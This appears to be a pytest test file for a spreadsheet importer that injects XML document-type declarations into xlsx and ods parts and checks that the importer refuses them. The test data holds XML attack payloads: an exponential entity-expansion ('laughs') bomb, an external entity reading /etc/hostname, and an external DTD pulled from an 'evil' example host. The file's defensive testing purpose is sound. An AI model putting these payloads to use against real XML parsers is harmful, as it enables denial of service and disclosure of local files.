"""What somebody may hide in a part of a workbook: a document type, whose entities grow or name files."""

from pathlib import Path

import pytest

from tests.policies.importing import workbook_files
from tests.policies.importing.read_workbooks import HEADER, LIN_WEI, refusal

LIST = {"Book": [HEADER, LIN_WEI]}

NESTED = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 30))
ATTACKS = {
    "ten thousand million laughs": f'<!DOCTYPE x [<!ENTITY e0 "ha">{NESTED}]>',
    "one long entity": f'<!DOCTYPE x [<!ENTITY e29 "{"a" * 100_000}">]>',
    "a file of this machine": '<!DOCTYPE x [<!ENTITY e29 SYSTEM "file:///etc/hostname">]>',
    "a definition from elsewhere": '<!DOCTYPE x SYSTEM "https://example.com/evil.dtd">',
    "behind a long comment": f"<!--{'-  ' * 5_000}--><!DOCTYPE x>",
    "an empty one": "<!DOCTYPE x>",
}
PARTS = [
    ("xlsx", "xl/workbook.xml"),
    ("xlsx", "xl/worksheets/sheet1.xml"),
    ("xlsx", "xl/styles.xml"),
    ("xlsx", "xl/_rels/workbook.xml.rels"),
    ("xlsx", "[Content_Types].xml"),
    ("ods", "content.xml"),
]


def declaring(content: bytes, attack: str, encoding: str) -> bytes:
    """A part with a document type, and a text that means its last entity."""
    head, _, rest = content.decode().rpartition("?>")
    prolog = f'<?xml version="1.0" encoding="{encoding}"?>' if head else ""
    return (prolog + attack + rest.replace(LIN_WEI[0], "&e29;")).encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize(("kind", "name"), PARTS)
def test_a_part_that_declares_a_document_type_is_refused(
    tmp_path: Path, kind: str, name: str, attack: str, encoding: str
) -> None:
    good = workbook_files.WRITERS[kind](LIST)
    bad = declaring(workbook_files.part(good, name), attack, encoding)
    path = tmp_path / f"book.{kind}"
    path.write_bytes(workbook_files.rezipped(good, {name: bad}))
    assert refusal(path).startswith("a part of the workbook declares a document type")
